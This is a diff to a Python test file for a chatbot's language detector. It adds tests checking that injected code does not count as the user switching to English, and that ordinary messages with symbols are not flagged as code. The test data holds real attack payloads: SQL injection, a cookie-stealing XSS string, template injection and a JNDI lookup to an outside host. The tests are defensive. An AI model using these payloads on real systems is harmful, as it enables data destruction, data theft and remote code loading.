@@ -3,7 +3,7 @@
 import pytest
 from rasa.shared.nlu.training_data.loading import load_data
 
-from bot.components.language import LanguageDetector, LanguageModel, detect, requested_language
+from bot.components.language import LanguageDetector, LanguageModel, detect, looks_like_code, requested_language
 from tests.conftest import ROOT
 
 
@@ -95,6 +95,20 @@ def test_borrowed_words_keep_the_conversation_language(model, text, conversation
 )
 def test_own_words_switch_the_conversation(model, text, conversation, lang):
     assert detect(text, model, conversation=conversation)[::2] == (lang, True)
+
+
+@pytest.mark.parametrize("text", ["'; DROP TABLE orders; --", "1 UNION SELECT email FROM customers --",
+                                  "<img src=x onerror=alert(document.cookie)>", "{{7*7}} ${jndi:ldap://x/a}"])
+def test_code_keeps_the_conversation_language(model, text):
+    """Injected SQL or script is English keywords, not a buyer switching to English."""
+    assert looks_like_code(text)
+    assert detect(text, model, conversation="fr")[2] is False
+
+
+@pytest.mark.parametrize("text", ["where is my order; it never came", 'the tracking says "delivered" but nothing came',
+                                  "WHERE IS MY ORDER I PAID AND NOTHING OR REFUND", "price = 5000 ksh?", "order 8170... -- urgent"])
+def test_prose_with_a_symbol_is_not_code(text):
+    assert not looks_like_code(text)
 
 
 @pytest.mark.parametrize(
